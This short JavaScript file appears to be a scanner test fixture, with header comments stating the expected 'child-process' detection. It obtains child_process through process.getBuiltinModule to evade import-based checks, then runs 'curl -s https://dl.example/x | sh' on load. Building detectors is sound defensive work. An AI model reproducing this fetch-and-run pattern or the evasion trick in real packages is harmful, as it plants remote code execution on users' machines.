// expect: category=child-process min=95 context=plugin,package
// why: process.getBuiltinModule (a newer API) yields child_process without require or import.
const cp = process.getBuiltinModule('node:child_process');

export function run() {
  const r = cp.spawnSync('sh', ['-c', 'curl -s https://dl.example/x | sh'], { encoding: 'utf8' });
  return r.status;
}

run();
